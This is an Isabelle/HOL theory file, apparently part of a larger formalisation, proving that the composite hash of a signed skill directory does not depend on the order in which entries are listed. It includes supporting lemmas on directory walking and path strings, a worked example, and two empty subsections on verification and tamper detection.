lemma concat_map_filter_nil:
  "(\<And>x. x \<in> set xs \<Longrightarrow> \<not> P x \<Longrightarrow> f x = []) \<Longrightarrow>
   concat (map f xs) = concat (map f (filter P xs))"
  by (induction xs) auto

lemma concat_map_sorted_eq:
  fixes xs ys :: "'a::linorder list"
  assumes "sorted xs" "distinct xs" "sorted ys" "distinct ys"
    and both: "\<And>d. d \<in> set xs \<Longrightarrow> d \<in> set ys \<Longrightarrow> f d = g d"
    and left: "\<And>d. d \<in> set xs \<Longrightarrow> d \<notin> set ys \<Longrightarrow> f d = []"
    and right: "\<And>d. d \<in> set ys \<Longrightarrow> d \<notin> set xs \<Longrightarrow> g d = []"
  shows "concat (map f xs) = concat (map g ys)"
proof -
  have a: "concat (map f xs) = concat (map f (filter (\<lambda>d. d \<in> set ys) xs))"
    by (rule concat_map_filter_nil) (rule left)
  have b: "concat (map g ys) = concat (map g (filter (\<lambda>d. d \<in> set xs) ys))"
    by (rule concat_map_filter_nil) (rule right)
  have c: "filter (\<lambda>d. d \<in> set ys) xs = filter (\<lambda>d. d \<in> set xs) ys"
    using assms(1-4) by (intro sorted_distinct_set_unique) (auto intro: sorted_wrt_filter)
  have d: "map f (filter (\<lambda>d. d \<in> set xs) ys) = map g (filter (\<lambda>d. d \<in> set xs) ys)"
    by (rule map_cong) (auto intro: both)
  show ?thesis unfolding a b c d ..
qed


lemma dir_names_mem: "d \<in> set (dir_names es) \<longleftrightarrow> (\<exists>sub. (d, Dir sub) \<in> set es)"
proof
  assume "d \<in> set (dir_names es)"
  then obtain ne where ne: "ne \<in> set es" "fst ne = d"
      "case snd ne of File x \<Rightarrow> False | Dir x \<Rightarrow> True"
    unfolding dir_names_filter by auto
  then obtain sub where "snd ne = Dir sub" by (cases "snd ne") simp_all
  with ne have "(d, Dir sub) \<in> set es" by (metis prod.collapse)
  then show "\<exists>sub. (d, Dir sub) \<in> set es" ..
next
  assume "\<exists>sub. (d, Dir sub) \<in> set es"
  then obtain sub where "(d, Dir sub) \<in> set es" ..
  then have "(d, Dir sub) \<in> set (filter (\<lambda>ne. case snd ne of File x \<Rightarrow> False | Dir x \<Rightarrow> True) es)"
    by simp
  then show "d \<in> set (dir_names es)"
    unfolding dir_names_filter by (metis fst_conv image_eqI set_map)
qed

lemma dir_names_map_of:
  "distinct (map fst es) \<Longrightarrow>
   d \<in> set (dir_names es) \<longleftrightarrow> (\<exists>sub. map_of es d = Some (Dir sub))"
  by (simp add: dir_names_mem)

lemma wf_entry_sub:
  assumes "wf_entry (Dir es)" and "map_of es d = Some (Dir sub)"
  shows "wf_entry (Dir sub)"
proof -
  have m: "(d, Dir sub) \<in> set es" using assms(2) by (rule map_of_SomeD)
  from assms(1) have "\<forall>ne \<in> set es. wf_entry (snd ne)" by simp
  from this m have "wf_entry (snd (d, Dir sub))" by (rule bspec)
  then show ?thesis by (simp only: snd_conv)
qed

lemma walk_files_unique:
  "wf_entry (Dir es) \<Longrightarrow> wf_entry (Dir es') \<Longrightarrow>
   set (walk_files dir es) = set (walk_files dir es') \<Longrightarrow>
   walk_files dir es = walk_files dir es'"
proof (induction dir es arbitrary: es' rule: walk_files.induct)
  case (1 dir es)
  note wf = "1.prems"(1) and wf' = "1.prems"(2) and sets = "1.prems"(3)
  have dist: "distinct (map fst es)" and dist': "distinct (map fst es')"
    using wf wf' by simp_all
  let ?ds = "sort (filter (\<lambda>d. d \<notin> set SKIP_DIRS) (dir_names es))"
  let ?ds' = "sort (filter (\<lambda>d. d \<notin> set SKIP_DIRS) (dir_names es'))"
  have file_iff: "f \<in> set (file_names es) \<and> c = file_content es f \<longleftrightarrow>
      f \<in> set (file_names es') \<and> c = file_content es' f" for f c
    using walk_files_file [of dir f c es] walk_files_file [of dir f c es'] sets by simp
  have names: "set (file_names es) = set (file_names es')"
    using file_iff by blast
  have content: "file_content es f = file_content es' f" if "f \<in> set (file_names es)" for f
    using file_iff [of f "file_content es f"] that by simp
  have sorted_names: "sort (file_names es') = sort (file_names es)"
    using names distinct_file_names [OF dist] distinct_file_names [OF dist']
    by (intro sorted_distinct_set_unique) simp_all
  have files_eq: "map (\<lambda>f. (dir @ [f], file_content es f)) (sort (file_names es)) =
      map (\<lambda>f. (dir @ [f], file_content es' f)) (sort (file_names es'))"
    unfolding sorted_names by (rule map_cong) (simp_all add: content)
  have sub_iff: "d \<in> set ?ds \<and> x \<in> set (sub_walk dir es d) \<longleftrightarrow>
      d \<in> set ?ds' \<and> x \<in> set (sub_walk dir es' d)" (is "?A \<longleftrightarrow> ?B") for d x
  proof -
    obtain p c where x: "x = (p, c)" by (cases x)
    show ?thesis
    proof (cases "\<exists>q. p = dir @ d # q \<and> q \<noteq> []")
      case True
      then obtain q where p: "p = dir @ d # q" and q: "q \<noteq> []" by blast
      show ?thesis
        using walk_files_sub [OF q, of dir d c es] walk_files_sub [OF q, of dir d c es'] sets
        by (simp add: x p)
    next
      case False
      then have "x \<notin> set (sub_walk dir es d)" "x \<notin> set (sub_walk dir es' d)"
        using sub_walk_prefix [where p = p and c = c and dir = dir and d = d] unfolding x
        by blast+
      then show ?thesis by fast
    qed
  qed
  have both: "sub_walk dir es d = sub_walk dir es' d" if d: "d \<in> set ?ds" and d': "d \<in> set ?ds'" for d
  proof -
    from d obtain sub where sub: "map_of es d = Some (Dir sub)"
      using dir_names_map_of [OF dist] by auto
    from d' obtain sub' where sub': "map_of es' d = Some (Dir sub')"
      using dir_names_map_of [OF dist'] by auto
    have "set (walk_files (dir @ [d]) sub) = set (walk_files (dir @ [d]) sub')"
      using sub_iff [of d] d d' by (auto simp: sub sub')
    from "1.IH" [OF d sub refl wf_entry_sub [OF wf sub] wf_entry_sub [OF wf' sub'] this]
    show ?thesis by (simp add: sub sub')
  qed
  have left: "sub_walk dir es d = []" if d: "d \<in> set ?ds" and d': "d \<notin> set ?ds'" for d
  proof -
    have "x \<notin> set (sub_walk dir es d)" for x
      using sub_iff [of d x] d d' by blast
    then show ?thesis by (meson last_in_set)
  qed
  have right: "sub_walk dir es' d = []" if d': "d \<in> set ?ds'" and d: "d \<notin> set ?ds" for d
  proof -
    have "x \<notin> set (sub_walk dir es' d)" for x
      using sub_iff [of d x] d d' by blast
    then show ?thesis by (meson last_in_set)
  qed
  have subs_eq: "concat (map (sub_walk dir es) ?ds) = concat (map (sub_walk dir es') ?ds')"
  proof (rule concat_map_sorted_eq)
    show "distinct ?ds" using distinct_dir_names [OF dist] by simp
    show "distinct ?ds'" using distinct_dir_names [OF dist'] by simp
  qed (simp_all add: both left right del: set_sort set_filter)
  show ?case
    unfolding walk_files.simps [of dir es] walk_files.simps [of dir es'] files_eq subs_eq ..
qed


lemma walk_files_valid:
  "wf_entry (Dir es) \<Longrightarrow> (p, c) \<in> set (walk_files dir es) \<Longrightarrow>
   \<exists>q. p = dir @ q \<and> q \<noteq> [] \<and> (\<forall>n \<in> set q. CHR ''/'' \<notin> set n)"
proof (induction dir es arbitrary: p c rule: walk_files.induct)
  case (1 dir es)
  note wf = "1.prems"(1)
  have valid: "CHR ''/'' \<notin> set n" if "n \<in> fst ` set es" for n
    using wf that by auto
  from "1.prems"(2) consider
      (in_files) f where "f \<in> set (file_names es)" "(p, c) = (dir @ [f], file_content es f)"
    | (in_sub) d where "d \<in> set (dir_names es)" "d \<notin> set SKIP_DIRS"
        "(p, c) \<in> set (sub_walk dir es d)"
    unfolding walk_files_mem [of "(p, c)" dir es] by fast
  then show ?case
  proof cases
    case in_files
    have "f \<in> fst ` set es" using in_files(1) unfolding file_names_filter by auto
    then show ?thesis using in_files(2) valid by simp
  next
    case in_sub
    then obtain s where s: "map_of es d = Some (Dir s)"
      and in_s: "(p, c) \<in> set (walk_files (dir @ [d]) s)"
      by (cases "map_of es d") (auto split: entry.splits)
    have d: "d \<in> set (sort (filter (\<lambda>d. d \<notin> set SKIP_DIRS) (dir_names es)))"
      using in_sub by simp
    have dv: "CHR ''/'' \<notin> set d"
      using valid [of d] map_of_SomeD [OF s] by (metis fst_conv image_eqI)
    from "1.IH" [OF d s refl wf_entry_sub [OF wf s] in_s]
    obtain q where "p = (dir @ [d]) @ q" "q \<noteq> []" "\<forall>n \<in> set q. CHR ''/'' \<notin> set n" by fast
    then show ?thesis using dv by (intro exI [of _ "d # q"]) simp
  qed
qed

lemma takeWhile_sep: "c \<notin> set a \<Longrightarrow> takeWhile (\<lambda>x. x \<noteq> c) (a @ c # r) = a"
  by (induction a) auto

lemma append_sep_eq:
  assumes "c \<notin> set a" "c \<notin> set b" "a @ c # r = b @ c # r'"
  shows "a = b \<and> r = r'"
proof -
  have "takeWhile (\<lambda>x. x \<noteq> c) (a @ c # r) = takeWhile (\<lambda>x. x \<noteq> c) (b @ c # r')"
    using assms(3) by simp
  then have "a = b" using assms(1,2) by (simp add: takeWhile_sep)
  then show ?thesis using assms(3) by simp
qed

lemma path_str_inj:
  "p \<noteq> [] \<Longrightarrow> q \<noteq> [] \<Longrightarrow> \<forall>n \<in> set p. CHR ''/'' \<notin> set n \<Longrightarrow>
   \<forall>n \<in> set q. CHR ''/'' \<notin> set n \<Longrightarrow> path_str p = path_str q \<Longrightarrow> p = q"
proof (induction p arbitrary: q)
  case Nil
  then show ?case by simp
next
  case (Cons a ps)
  then obtain b qs where q: "q = b # qs" by (cases q) auto
  show ?case
  proof (cases ps)
    case Nil
    show ?thesis
    proof (cases qs)
      case Nil
      then show ?thesis using Cons.prems \<open>ps = []\<close> q by simp
    next
      case (Cons b' qs')
      then have "a = b @ CHR ''/'' # path_str qs" using Cons.prems(5) \<open>ps = []\<close> q by simp
      then have "CHR ''/'' \<in> set a" by simp
      then show ?thesis using Cons.prems(3) by simp
    qed
  next
    case (Cons a' ps')
    show ?thesis
    proof (cases qs)
      case Nil
      then have "b = a @ CHR ''/'' # path_str ps" using Cons.prems(5) \<open>ps = a' # ps'\<close> q by simp
      then have "CHR ''/'' \<in> set b" by simp
      then show ?thesis using Cons.prems(4) q by simp
    next
      case (Cons b' qs')
      have eq: "a @ CHR ''/'' # path_str ps = b @ CHR ''/'' # path_str qs"
        using Cons.prems(5) \<open>ps = a' # ps'\<close> \<open>qs = b' # qs'\<close> q by simp
      have "a = b \<and> path_str ps = path_str qs"
        using Cons.prems(3,4) q by (intro append_sep_eq [OF _ _ eq]) simp_all
      moreover have "ps = qs"
        using Cons.IH [of qs] Cons.prems(3,4) calculation \<open>ps = a' # ps'\<close> \<open>qs = b' # qs'\<close> q
        by simp
      ultimately show ?thesis using q by simp
    qed
  qed
qed

lemma rel_files_inj:
  assumes wf: "wf_entry (Dir es)" and wf': "wf_entry (Dir es')"
    and eq: "set (rel_files es) = set (rel_files es')"
  shows "set (walk_files [] es) = set (walk_files [] es')"
proof -
  let ?f = "\<lambda>(p, c). (path_str p, c :: string option)"
  let ?C = "set (walk_files [] es) \<union> set (walk_files [] es')"
  have valid: "fst x \<noteq> [] \<and> (\<forall>n \<in> set (fst x). CHR ''/'' \<notin> set n)" if "x \<in> ?C" for x
    using that walk_files_valid [OF wf, of "fst x" "snd x" "[]"]
      walk_files_valid [OF wf', of "fst x" "snd x" "[]"] by auto
  have "inj_on ?f ?C"
  proof (rule inj_onI)
    fix x y assume x: "x \<in> ?C" and y: "y \<in> ?C" and e: "?f x = ?f y"
    then have "path_str (fst x) = path_str (fst y)" "snd x = snd y"
      by (auto split: prod.splits)
    moreover from this valid [OF x] valid [OF y] have "fst x = fst y"
      by (intro path_str_inj) simp_all
    ultimately show "x = y" by (simp add: prod_eq_iff)
  qed
  moreover have "?f ` set (walk_files [] es) = ?f ` set (walk_files [] es')"
    using eq by (simp add: rel_files_def)
  ultimately show ?thesis
    by (subst (asm) inj_on_image_eq_iff [where C = ?C]) simp_all
qed


text \<open>
  C2. The result of \<open>skill_hash\<close>, and so the composite hash that Sign stores whatever the
  time of signing, is the same for any two well-formed skill directories with the same set
  of pairs of relative path and content outside the excluded directories, in whatever order
  the file system lists the entries of each directory.
\<close>

theorem composite_deterministic:
  assumes "wf_entry (Dir es)" and "wf_entry (Dir es')"
    and "set (rel_files es) = set (rel_files es')"
  shows "skill_hash hl es = skill_hash hl es'
    \<and> composite_hash (sign_skill hl now es) = composite_hash (sign_skill hl now' es')
    \<and> files (sign_skill hl now es) = files (sign_skill hl now' es')"
proof -
  have "set (walk_files [] es) = set (walk_files [] es')"
    using assms by (rule rel_files_inj)
  then have "walk_files [] es = walk_files [] es'"
    by (rule walk_files_unique [OF assms(1,2)])
  then have "skill_hash hl es = skill_hash hl es'"
    by (simp add: skill_hash_walk_files)
  then show ?thesis
    by (simp add: sign_skill_fields)
qed

theorem composite_deterministic_witness:
  "wf_entry (Dir [(''z.txt'', File (Some ''x'')), (''a'', Dir [(''c.py'', File (Some ''1'')), (''b.py'', File (Some ''2''))]), (''.git'', Dir [(''HEAD'', File (Some ''q''))])])
   \<and> wf_entry (Dir [(''a'', Dir [(''b.py'', File (Some ''2'')), (''c.py'', File (Some ''1''))]), (''empty'', Dir []), (''z.txt'', File (Some ''x''))])
   \<and> rel_files [(''z.txt'', File (Some ''x'')), (''a'', Dir [(''c.py'', File (Some ''1'')), (''b.py'', File (Some ''2''))]), (''.git'', Dir [(''HEAD'', File (Some ''q''))])] = [(''z.txt'', Some ''x''), (''a/b.py'', Some ''2''), (''a/c.py'', Some ''1'')]
   \<and> rel_files [(''a'', Dir [(''b.py'', File (Some ''2'')), (''c.py'', File (Some ''1''))]), (''empty'', Dir []), (''z.txt'', File (Some ''x''))] = [(''z.txt'', Some ''x''), (''a/b.py'', Some ''2''), (''a/c.py'', Some ''1'')]
   \<and> skill_hash plain_hashlib [(''z.txt'', File (Some ''x'')), (''a'', Dir [(''c.py'', File (Some ''1'')), (''b.py'', File (Some ''2''))]), (''.git'', Dir [(''HEAD'', File (Some ''q''))])] = skill_hash plain_hashlib [(''a'', Dir [(''b.py'', File (Some ''2'')), (''c.py'', File (Some ''1''))]), (''empty'', Dir []), (''z.txt'', File (Some ''x''))]
   \<and> composite_hash (sign_skill plain_hashlib ''t1'' [(''z.txt'', File (Some ''x'')), (''a'', Dir [(''c.py'', File (Some ''1'')), (''b.py'', File (Some ''2''))]), (''.git'', Dir [(''HEAD'', File (Some ''q''))])])
       = composite_hash (sign_skill plain_hashlib ''t2'' [(''a'', Dir [(''b.py'', File (Some ''2'')), (''c.py'', File (Some ''1''))]), (''empty'', Dir []), (''z.txt'', File (Some ''x''))])
   \<and> skill_hash plain_hashlib [(''z.txt'', File (Some ''x'')), (''a'', Dir [(''c.py'', File (Some ''1'')), (''b.py'', File (Some ''2''))]), (''.git'', Dir [(''HEAD'', File (Some ''q''))])]
       = (''<z.txt:<x>a/b.py:<2>a/c.py:<1>>'',
          [(''z.txt'', ''<x>''), (''a/b.py'', ''<2>''), (''a/c.py'', ''<1>'')])"
proof -
  have w1: "wf_entry (Dir [(''z.txt'', File (Some ''x'')), (''a'', Dir [(''c.py'', File (Some ''1'')), (''b.py'', File (Some ''2''))]), (''.git'', Dir [(''HEAD'', File (Some ''q''))])])" by simp
  have w2: "wf_entry (Dir [(''a'', Dir [(''b.py'', File (Some ''2'')), (''c.py'', File (Some ''1''))]), (''empty'', Dir []), (''z.txt'', File (Some ''x''))])" by simp
  have r1: "rel_files [(''z.txt'', File (Some ''x'')), (''a'', Dir [(''c.py'', File (Some ''1'')), (''b.py'', File (Some ''2''))]), (''.git'', Dir [(''HEAD'', File (Some ''q''))])] = [(''z.txt'', Some ''x''), (''a/b.py'', Some ''2''), (''a/c.py'', Some ''1'')]"
    by (simp add: rel_files_def walk_files.simps file_names_def dir_names_def file_content_def
        SKIP_DIRS_def)
  have r2: "rel_files [(''a'', Dir [(''b.py'', File (Some ''2'')), (''c.py'', File (Some ''1''))]), (''empty'', Dir []), (''z.txt'', File (Some ''x''))] = [(''z.txt'', Some ''x''), (''a/b.py'', Some ''2''), (''a/c.py'', Some ''1'')]"
    by (simp add: rel_files_def walk_files.simps file_names_def dir_names_def file_content_def
        SKIP_DIRS_def)
  have eq: "set (rel_files [(''z.txt'', File (Some ''x'')), (''a'', Dir [(''c.py'', File (Some ''1'')), (''b.py'', File (Some ''2''))]), (''.git'', Dir [(''HEAD'', File (Some ''q''))])]) = set (rel_files [(''a'', Dir [(''b.py'', File (Some ''2'')), (''c.py'', File (Some ''1''))]), (''empty'', Dir []), (''z.txt'', File (Some ''x''))])"
    unfolding r1 r2 ..
  have e: "skill_hash plain_hashlib [(''z.txt'', File (Some ''x'')), (''a'', Dir [(''c.py'', File (Some ''1'')), (''b.py'', File (Some ''2''))]), (''.git'', Dir [(''HEAD'', File (Some ''q''))])]
       = (''<z.txt:<x>a/b.py:<2>a/c.py:<1>>'',
          [(''z.txt'', ''<x>''), (''a/b.py'', ''<2>''), (''a/c.py'', ''<1>'')])"
    by (simp add: signet_eval)
  from composite_deterministic [OF w1 w2 eq, of plain_hashlib "''t1''" "''t2''"]
  show ?thesis
    using w1 w2 r1 r2 e by simp
qed

subsection \<open>Verify without a usable manifest\<close>





subsection \<open>Tamper detection\<close>






































end
